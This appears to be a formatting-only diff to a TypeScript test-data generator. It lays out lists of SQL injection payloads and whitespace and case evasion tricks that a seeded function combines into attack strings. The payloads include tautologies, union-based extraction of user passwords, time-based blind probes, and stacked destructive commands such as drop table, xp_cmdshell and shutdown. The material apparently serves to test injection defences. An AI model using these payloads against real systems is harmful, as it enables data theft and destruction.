@@ -29,32 +29,118 @@ const FRAMES: readonly Frame[] = [
 ]
 
 const CONDITIONS = [
-  'or 1=1', 'and 1=2', 'OR 2>1', 'or 3 between 1 and 5', 'and 1 in (1,2)', "or 'a' like 'a'", 'or not 1=2',
-  'or 1 is not null', 'or(1)=(1)', '|| 1=1', '&& 1=1', 'or length(user())>1', 'and ascii(substring(user(),1,1))>64',
-  'or exists(select 1)', 'or sleep(5)=0', 'xor 1=2', 'or 1 rlike 1', 'or 5 div 1=5', 'and (select 1)=1', 'or 1<>2',
-  'or pg_sleep(5) is null', "or md5('a')=md5('a')", 'and if(1=1,sleep(5),0)', 'or benchmark(1000000,md5(1))',
-  "and extractvalue(1,concat(0x7e,version()))", 'having 1=1', 'group by 1 having 1=1', 'or 1=1 limit 1,1',
+  'or 1=1',
+  'and 1=2',
+  'OR 2>1',
+  'or 3 between 1 and 5',
+  'and 1 in (1,2)',
+  "or 'a' like 'a'",
+  'or not 1=2',
+  'or 1 is not null',
+  'or(1)=(1)',
+  '|| 1=1',
+  '&& 1=1',
+  'or length(user())>1',
+  'and ascii(substring(user(),1,1))>64',
+  'or exists(select 1)',
+  'or sleep(5)=0',
+  'xor 1=2',
+  'or 1 rlike 1',
+  'or 5 div 1=5',
+  'and (select 1)=1',
+  'or 1<>2',
+  'or pg_sleep(5) is null',
+  "or md5('a')=md5('a')",
+  'and if(1=1,sleep(5),0)',
+  'or benchmark(1000000,md5(1))',
+  'and extractvalue(1,concat(0x7e,version()))',
+  'having 1=1',
+  'group by 1 having 1=1',
+  'or 1=1 limit 1,1',
 ]
 const QUERIES = [
-  'union select 1,2,3', 'UNION ALL SELECT null,null', "union select user,password from users", 'union(select 1)',
-  'union distinct select @@version', 'uNiOn sElEcT table_name from information_schema.tables', 'union select * from users',
-  'order by 3', 'group by 2', 'limit 1,1', "into outfile '/tmp/x'", 'procedure analyse(1,1)',
+  'union select 1,2,3',
+  'UNION ALL SELECT null,null',
+  'union select user,password from users',
+  'union(select 1)',
+  'union distinct select @@version',
+  'uNiOn sElEcT table_name from information_schema.tables',
+  'union select * from users',
+  'order by 3',
+  'group by 2',
+  'limit 1,1',
+  "into outfile '/tmp/x'",
+  'procedure analyse(1,1)',
 ]
 const STACKED = [
-  '; drop table users', '; select pg_sleep(5)', "; waitfor delay '0:0:5'", "; exec xp_cmdshell 'dir'", '; insert into users values (1)',
-  '; update users set a=1', '; delete from users', '; shutdown', '; declare @a int', '; truncate table logs', '; create table t(a int)',
+  '; drop table users',
+  '; select pg_sleep(5)',
+  "; waitfor delay '0:0:5'",
+  "; exec xp_cmdshell 'dir'",
+  '; insert into users values (1)',
+  '; update users set a=1',
+  '; delete from users',
+  '; shutdown',
+  '; declare @a int',
+  '; truncate table logs',
+  '; create table t(a int)',
 ]
 const WHOLE = [
-  "'+'", "'||'", "' or '", "'='", "'-'", "'^'1", "' or 1-- ", "'--", "'#", "'/*", "' or ''='", '" or ""="', "'*'", "'<'1",
-  "select * from users", "select password from users where id=1", "(select 1)", "1 and (select sleep(5))",
-  "(select(0)from(select(sleep(5)))v)", "if(now()=sysdate(),sleep(5),0)", "1 or sleep(5)#", "'xor(if(now()=sysdate(),sleep(5),0))or'",
-  "case when 1=1 then 1 else 0 end", "1;select 1", "-1 union select 1", "ascii(substr(user(),1,1))", "1 and ord(mid(version(),1,1))>1",
-  "' and updatexml(1,concat(0x7e,user()),1) and '", "concat(char(58),version())", "1 procedure analyse()", "' || (select '') || '",
-  "admin' or '1'='1'/*", "1' order by 5-- -", "') or true-- ", "' or 1 or '", "1 or true", "'; --", "x' and email is null; --",
-  "x' and 1=(select count(*) from tabname); --", "' group by users.id having 1=1--",
+  "'+'",
+  "'||'",
+  "' or '",
+  "'='",
+  "'-'",
+  "'^'1",
+  "' or 1-- ",
+  "'--",
+  "'#",
+  "'/*",
+  "' or ''='",
+  '" or ""="',
+  "'*'",
+  "'<'1",
+  'select * from users',
+  'select password from users where id=1',
+  '(select 1)',
+  '1 and (select sleep(5))',
+  '(select(0)from(select(sleep(5)))v)',
+  'if(now()=sysdate(),sleep(5),0)',
+  '1 or sleep(5)#',
+  "'xor(if(now()=sysdate(),sleep(5),0))or'",
+  'case when 1=1 then 1 else 0 end',
+  '1;select 1',
+  '-1 union select 1',
+  'ascii(substr(user(),1,1))',
+  '1 and ord(mid(version(),1,1))>1',
+  "' and updatexml(1,concat(0x7e,user()),1) and '",
+  'concat(char(58),version())',
+  '1 procedure analyse()',
+  "' || (select '') || '",
+  "admin' or '1'='1'/*",
+  "1' order by 5-- -",
+  "') or true-- ",
+  "' or 1 or '",
+  '1 or true',
+  "'; --",
+  "x' and email is null; --",
+  "x' and 1=(select count(*) from tabname); --",
+  "' group by users.id having 1=1--",
 ]
 
-const BLANKS = [' ', ' ', ' ', '  ', '\t', '\n', '/**/', '%0b'.replace('%0b', '\u000b'), '\u00a0', ' /*x*/ ', '+'.replace('+', ' ')]
+const BLANKS = [
+  ' ',
+  ' ',
+  ' ',
+  '  ',
+  '\t',
+  '\n',
+  '/**/',
+  '%0b'.replace('%0b', '\u000b'),
+  '\u00a0',
+  ' /*x*/ ',
+  '+'.replace('+', ' '),
+]
 
 /** Gives `count` injections: frames, payloads and disguises combined by a seed. */
 export function sqliAttacks(seed: number, count: number): string[] {
@@ -65,7 +151,9 @@ export function sqliAttacks(seed: number, count: number): string[] {
     return item
   }
   const cased = (text: string): string =>
-    random() < 0.7 ? text : [...text].map((c) => (random() < 0.5 ? c.toUpperCase() : c.toLowerCase())).join('')
+    random() < 0.7
+      ? text
+      : [...text].map((c) => (random() < 0.5 ? c.toUpperCase() : c.toLowerCase())).join('')
   const spaced = (text: string): string => {
     if (random() < 0.6) return text
     const blank = pick(BLANKS)
